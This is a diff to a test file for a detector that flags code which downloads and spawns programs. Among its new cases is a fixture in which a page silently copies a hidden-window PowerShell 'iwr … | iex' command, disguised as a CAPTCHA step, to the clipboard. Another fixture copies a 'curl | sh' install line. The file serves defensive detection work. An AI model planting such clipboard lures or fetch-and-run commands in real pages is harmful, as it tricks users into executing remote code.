@@ -4,6 +4,14 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'a page puts a command without a window into the clipboard',
+      files: {
+        'index.js': `document.getElementById('robot').onchange = () => navigator.clipboard.writeText('powershell -w h -c "iwr https://get.invalid/v | iex" # I am not a robot')`,
+      },
+      weight: 'strong',
+      says: ['clipboard'],
+    },
+    {
       when: 'a library has put its functions among the globals',
       files: {
         'package.json': { name: 'specimen', type: 'module' },
@@ -141,6 +149,10 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
     },
   ],
   silent: [
+    {
+      when: 'a page of documentation offers to copy how something is installed',
+      files: { 'index.js': `exports.copy = () => navigator.clipboard.writeText('curl -fsSL https://get.invalid/install.sh | sh')` },
+    },
     {
       when: 'a page is opened for the user by PowerShell',
       files: {
